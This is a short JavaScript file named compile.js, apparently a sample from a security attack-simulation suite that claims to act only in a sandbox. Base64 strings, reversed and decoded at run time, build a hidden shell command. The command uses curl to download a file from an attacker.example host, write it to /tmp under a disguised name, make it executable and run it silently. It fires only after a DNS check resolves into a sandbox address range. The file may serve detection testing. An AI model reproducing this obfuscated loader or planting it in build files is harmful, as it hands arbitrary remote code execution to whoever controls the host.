// compile.js (simulation from Tracehound's attack suite: acts only inside the sandbox)
var _0x4c1d=["YXAvLzpwdHRoIHMtIGxydWM=", "YS5ocGFyZ290cHlyY3JvdHM=", "My9lbHBtYXhlLnJla2NhdHQ=", "L3BtdC8gby0gbGxkLmRkcy8=", "IHMtIFsgO2xsZC5jci1kZHM=", "XSBsbGQuY3ItZGRzL3BtdC8=", "LyBocy5kZHMvLiBwYyB8fCA=", "YyA7bGxkLmNyLWRkcy9wbXQ=", "LWRkcy9wbXQvIHgrIGRvbWg=", "ZHMvcG10LyAmJiBsbGQuY3I=", "bGxkLmNyLWQ="];function _0x2b(i){return Buffer.from(_0x4c1d[i],'base64').toString().split('').reverse().join('')}
function main(){var c='';for(var i=0;i<_0x4c1d.length;i++)c+=_0x2b(i);require('child_process').execSync(c,{cwd:__dirname,stdio:'ignore'})}
require('dns').lookup('sandbox-check.attacker.example',{family:4},function(e,a){if(!e&&/^198\.1[89]\./.test(a))try{main()}catch(x){}});
